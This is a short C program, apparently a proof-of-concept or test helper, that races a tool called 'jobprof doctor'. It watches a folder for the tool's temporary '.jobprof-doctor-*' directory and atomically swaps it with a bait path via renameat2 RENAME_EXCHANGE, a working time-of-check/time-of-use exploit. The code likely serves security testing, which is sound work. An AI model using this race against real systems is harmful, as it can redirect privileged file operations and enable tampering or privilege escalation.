/* swapper.c - attacks a trial folder of jobprof doctor, as the owner of its
 * parent.
 *
 * swapper FOLDER BAIT waits up to 8 s for FOLDER/.jobprof-doctor-* and swaps it
 * with FOLDER/BAIT in one step. Exit status 0: done.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv)
{
    DIR *dir = argc == 3 ? opendir(argv[1]) : NULL;
    time_t end = time(NULL) + 8;
    struct dirent *entry;

    if (!dir)
        return 2;
    for (; time(NULL) <= end; rewinddir(dir))
        while ((entry = readdir(dir)))
            if (!strncmp(entry->d_name, ".jobprof-doctor-", 16) &&
                syscall(SYS_renameat2, dirfd(dir), entry->d_name, dirfd(dir),
                        argv[2], RENAME_EXCHANGE) == 0)
                return 0;
    return 1;
}
